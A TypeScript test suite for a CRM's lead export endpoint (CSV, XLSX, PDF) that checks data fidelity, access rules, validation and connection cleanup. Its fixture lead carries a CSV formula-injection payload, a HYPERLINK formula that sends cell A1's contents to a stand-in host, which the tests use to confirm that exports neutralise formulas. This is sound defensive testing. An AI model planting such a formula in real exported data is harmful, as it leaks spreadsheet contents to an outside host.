/**
 * GET /leads/export (decision 073): the streamed CSV / XLSX / PDF hold exactly what GET /leads lists for the same
 * filters and sort (parsed back and compared value by value), formula cells are inert, the row count comes first,
 * and access and validation are the list's.
 */

import { request } from "node:http";
import { EXPORT_TOTAL_HEADER, type ExportColumn, exportText } from "@portal/contracts/exports";
import { LEAD_EXPORT_COLUMNS } from "@portal/contracts/lead-exports";
import type { LeadListItemDto } from "@portal/contracts/leads";
import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { beforeAll, describe, expect, it, vi } from "vitest";
import { createLead, type Staff, staff } from "./factories/leads";
import { coordinator, ctx, e1, L, list, setUpLeadsList, specA } from "./factories/leads-list";
import { pdfText } from "./pdf-text";

setUpLeadsList();

const exportOf = (who: Staff, query: string) =>
  ctx.app.inject({ method: "GET", url: `/leads/export?${query}`, headers: who.headers });

/** Every item GET /leads answers for the query (paged by cursor), as the API's JSON. */
async function listAll(who: Staff, query: string): Promise<{ items: LeadListItemDto[]; total: number }> {
  const items: LeadListItemDto[] = [];
  let cursor = "";
  let total = 0;
  for (;;) {
    const res = await list(who, `${query}&limit=2${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ""}`);
    expect(res.statusCode).toBe(200);
    const body = res.json();
    items.push(...body.payload);
    total = body.pagination.total;
    if (!body.pagination.next_cursor) return { items, total };
    cursor = body.pagination.next_cursor;
  }
}

const FORMULA = /^[=+\-@\t\r]/;
/** What a CSV cell holds for a JSON value: the shared formatter's text, formula-looking text behind an apostrophe. */
const csvExpected = (c: ExportColumn<LeadListItemDto>, item: LeadListItemDto) => {
  const text = exportText(c.kind, c.value(item));
  return c.kind === "text" && FORMULA.test(text) ? `'${text}` : text;
};

function parseCsv(body: Buffer): string[][] {
  expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const text = body.toString("utf8").slice(1);
  expect(text.endsWith("\r\n")).toBe(true);
  expect(
    text
      .replace(/"[^"]*"/g, "")
      .split("\n")
      .every((line, i, all) => i === all.length - 1 || line.endsWith("\r")),
  ).toBe(true);
  return parse(text, { delimiter: ";", record_delimiter: "\r\n", relax_column_count: false });
}

const two = (n: number) => String(n).padStart(2, "0");
/** An XLSX cell back as the text CSV and PDF write: dates from their São Paulo wall-clock serial. */
function xlsxText(c: ExportColumn<LeadListItemDto>, value: ExcelJS.CellValue): string {
  if (value === null || value === undefined) return "";
  if (value instanceof Date) {
    const d = new Date(Math.round(value.getTime() / 1000) * 1000);
    const day = `${two(d.getUTCDate())}/${two(d.getUTCMonth() + 1)}/${d.getUTCFullYear()}`;
    return c.kind === "datetime" ? `${day} ${two(d.getUTCHours())}:${two(d.getUTCMinutes())}` : day;
  }
  if (typeof value === "number") return exportText(c.kind, c.kind === "money" ? Math.round(value * 100) : value);
  return String(value);
}

async function parseXlsx(body: Buffer): Promise<string[][]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(body as unknown as ArrayBuffer);
  const sheet = wb.worksheets[0];
  if (!sheet) throw new Error("no sheet");
  const rows: string[][] = [];
  sheet.eachRow({ includeEmpty: true }, (row, r) => {
    rows.push(
      LEAD_EXPORT_COLUMNS.map((c, i) =>
        r === 1 ? String(row.getCell(i + 1).value) : xlsxText(c, row.getCell(i + 1).value),
      ),
    );
  });
  return rows;
}

let marketing: Staff;
let partner: Staff;
let hostile: string;

beforeAll(async () => {
  marketing = await staff(ctx, ["MARKETING"]);
  partner = await staff(ctx, ["AGENT_PARTNER"]);
  // Text a spreadsheet would run as a formula, and a separator, quotes and a line break to quote.
  hostile = (
    await createLead(ctx.prisma, {
      fullName: '=HYPERLINK("http://x.example/?q="&A1;"clique")',
      phone: "5521900000099",
      email: "@SUM(1+1)@x.com",
      city: "-2+3",
      ownerId: specA.user.id,
      enterpriseId: e1,
      source: "SITE",
      createdAt: new Date("2024-02-29T02:30:00Z"), // 23:30 of 28/02 in São Paulo
      lastInterestAt: new Date("2024-05-06T02:59:30Z"),
    })
  ).id;
});

const QUERIES = [
  "",
  "city=Campinas",
  "status=NEW,FILED&sortBy=full_name&direction=asc",
  "full_name=ama&sortBy=createdAt&direction=asc",
  "owner_id=none",
  "favorite=true",
  "excluded=true",
];

describe("GET /leads/export", () => {
  it.each(QUERIES)("the CSV holds what GET /leads lists for '%s', value by value", async (query) => {
    const { items, total } = await listAll(coordinator, query);
    const res = await exportOf(coordinator, `format=csv&${query}`);
    expect(res.statusCode).toBe(200);
    expect(res.headers["content-type"]).toBe("text/csv; charset=utf-8");
    expect(res.headers["content-disposition"]).toMatch(/^inline; filename="leads-\d{4}-\d{2}-\d{2}\.csv"/);
    expect(res.headers[EXPORT_TOTAL_HEADER]).toBe(String(total));
    const [header, ...rows] = parseCsv(res.rawPayload);
    expect(header).toEqual(LEAD_EXPORT_COLUMNS.map((c) => c.header));
    expect(rows).toEqual(items.map((item) => LEAD_EXPORT_COLUMNS.map((c) => csvExpected(c, item))));
    expect(rows.length).toBe(total);
  });

  it.each(QUERIES)("the XLSX holds what GET /leads lists for '%s', value by value", async (query) => {
    const { items, total } = await listAll(coordinator, query);
    const res = await exportOf(coordinator, `format=xlsx&${query}`);
    expect(res.statusCode).toBe(200);
    expect(res.headers["content-disposition"]).toMatch(/filename="leads-\d{4}-\d{2}-\d{2}\.xlsx"/);
    expect(res.headers[EXPORT_TOTAL_HEADER]).toBe(String(total));
    const [header, ...rows] = await parseXlsx(res.rawPayload);
    expect(header).toEqual(LEAD_EXPORT_COLUMNS.map((c) => c.header));
    expect(rows).toEqual(items.map((item) => LEAD_EXPORT_COLUMNS.map((c) => exportText(c.kind, c.value(item)))));
  });

  it("a specialist exports only their own leads, as their list shows them", async () => {
    const { items } = await listAll(specA, "");
    expect(items.map((l) => l._id).sort()).toEqual([L.amanda.id, L.bruno.id, hostile].sort());
    const [, ...rows] = parseCsv((await exportOf(specA, "format=csv")).rawPayload);
    expect(rows).toEqual(items.map((item) => LEAD_EXPORT_COLUMNS.map((c) => csvExpected(c, item))));
  });

  it("keeps formula-looking text inert: an apostrophe in the CSV, a plain string (never a formula) in the XLSX", async () => {
    const csv = (await exportOf(coordinator, "format=csv&full_name=HYPERLINK")).rawPayload.toString("utf8");
    expect(csv.startsWith("\uFEFFNome;Telefone;")).toBe(true);
    expect(csv).toContain(`"'=HYPERLINK(""http://x.example/?q=""&A1;""clique"")";(21) 90000-0099;'@SUM(1+1)@x.com;`);
    expect(csv).toContain(";'-2+3;");
    // Dates are São Paulo's: created 23:30 of 28/02, last interest 23:59 of 05/05.
    expect(csv).toContain(";05/05/2024 23:59;28/02/2024\r\n");

    const res = await exportOf(coordinator, "format=xlsx&full_name=HYPERLINK");
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const row = wb.worksheets[0]?.getRow(2);
    expect(row?.getCell(1).value).toBe('=HYPERLINK("http://x.example/?q="&A1;"clique")');
    expect(row?.getCell(1).formula).toBeUndefined();
    expect(row?.getCell(8).value).toBe("-2+3");
  });

  it("writes a PDF table of the same leads, numbered pages", async () => {
    const res = await exportOf(coordinator, "format=pdf&city=Campinas&sortBy=full_name&direction=asc");
    expect(res.statusCode).toBe(200);
    expect(res.headers["content-type"]).toBe("application/pdf");
    expect(res.headers[EXPORT_TOTAL_HEADER]).toBe("2");
    const text = pdfText(res.rawPayload);
    expect(text).toContain("Amanda Figueiredo");
    expect(text).toContain("Carla Amaro");
    expect(text).not.toContain("Bruno Amaral");
    expect(text).toContain("Página 1 de 1");
  });

  it("answers 403 to a role without the leads section, before validating the query", async () => {
    for (const query of ["format=csv", "format=docx"]) {
      const res = await exportOf(partner, query);
      expect(res.statusCode).toBe(403);
      expect(res.json().message).toBe("Você não tem permissão para realizar esta ação.");
    }
    expect((await exportOf(marketing, "format=csv")).statusCode).toBe(200);
  });

  it.each([
    ["format=docx", '"format"'],
    ["", '"format"'],
    ["format=csv&status=VENDIDO", '"status.0"'],
    ["format=xlsx&sortBy=phone", '"sortBy"'],
    ["format=csv&phone=1", '"phone"'],
  ])("answers 400 naming the field for '%s'", async (query, field) => {
    const res = await exportOf(coordinator, query);
    expect(res.statusCode).toBe(400);
    expect(res.json().error).toBe("Bad Request");
    expect(res.json().message[0], JSON.stringify(res.json().message)).toMatch(new RegExp(`^${field}`));
  });

  it("gives the connection back: exports in a row, and one whose client goes away mid-download, leave no transaction open", async () => {
    for (let i = 0; i < 12; i++) expect((await exportOf(coordinator, "format=xlsx")).statusCode).toBe(200);
    // Enough rows that the file is still streaming when the client hangs up after its first bytes.
    await ctx.prisma.$executeRaw`
      INSERT INTO leads (id, full_name, phone, source, nature, status, interest_level, profile, city, last_interest_at,
                         last_activity_at, created_at, updated_at)
      SELECT gen_random_uuid(), 'Lote ' || g, '5511' || lpad(g::text, 9, '0'), 'SITE', 'ONLINE', 'NEW', 'LOW',
             'UNCLASSIFIED', 'Lote', now(), now(), now(), now()
      FROM generate_series(1, 30000) g`;
    const address = await ctx.app.listen({ port: 0, host: "127.0.0.1" });
    const firstBytes = await new Promise<number>((resolve, reject) => {
      const req = request(`${address}/leads/export?format=csv&city=Lote`, { headers: coordinator.headers }, (res) => {
        expect(res.headers[EXPORT_TOTAL_HEADER]).toBe("30000");
        res.once("data", (chunk: Buffer) => {
          req.destroy();
          resolve(chunk.length);
        });
      });
      req.on("error", (err) => (req.destroyed ? undefined : reject(err)));
      req.end();
    });
    expect(firstBytes).toBeGreaterThan(0);
    await vi.waitFor(
      async () => {
        const open = await ctx.prisma.$queryRaw<{ n: number }[]>`
          SELECT count(*)::int AS n FROM pg_stat_activity
          WHERE datname = current_database() AND pid <> pg_backend_pid() AND state <> 'idle'`;
        expect(open[0]?.n).toBe(0);
      },
      { timeout: 10_000, interval: 50 },
    );
  });
});
